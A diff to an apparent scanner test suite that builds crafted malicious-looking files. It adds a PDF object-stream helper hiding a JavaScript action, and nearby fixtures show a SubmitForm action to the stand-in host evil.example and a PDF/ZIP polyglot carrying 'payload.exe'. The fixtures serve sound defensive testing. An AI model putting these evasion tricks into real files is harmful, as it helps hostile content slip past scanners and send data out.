@@ -60,6 +60,18 @@ def pdf_with(body: bytes) -> bytes:
     return b"%PDF-1.7\n1 0 obj\n<<" + body + b">>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
 
 
+def pdf_object_stream(objects: bytes) -> bytes:
+    """PDF 1.5+ keeps dictionaries in compressed object streams: actions can hide there."""
+    body = zlib.compress(objects)
+    return (
+        b"%PDF-1.7\n5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
+        + str(len(body)).encode()
+        + b">>\nstream\n"
+        + body
+        + b"\nendstream\nendobj\n%%EOF\n"
+    )
+
+
 def zip_bytes(members: dict[str, bytes]) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
@@ -112,6 +124,7 @@ def corpus() -> list[tuple[str, str, bytes]]:
         ("pdf_richmedia", "a.pdf", pdf_with(b"/Subtype/RichMedia")),
         ("pdf_xfa", "a.pdf", pdf_with(b"/AcroForm<</XFA 5 0 R>>")),
         ("pdf_submitform", "a.pdf", pdf_with(b"/S/SubmitForm/F(http://evil.example/)")),
+        ("pdf_js_in_object_stream", "a.pdf", pdf_object_stream(b"1 0 <</S/JavaScript/JS(x)>>")),
         ("pdf_truncated", "a.pdf", PDF_OK[:30]),
         ("pdf_header_only", "a.pdf", b"%PDF-"),
         ("pdf_zip_polyglot", "a.pdf", PDF_OK + zip_bytes({"payload.exe": PE})),
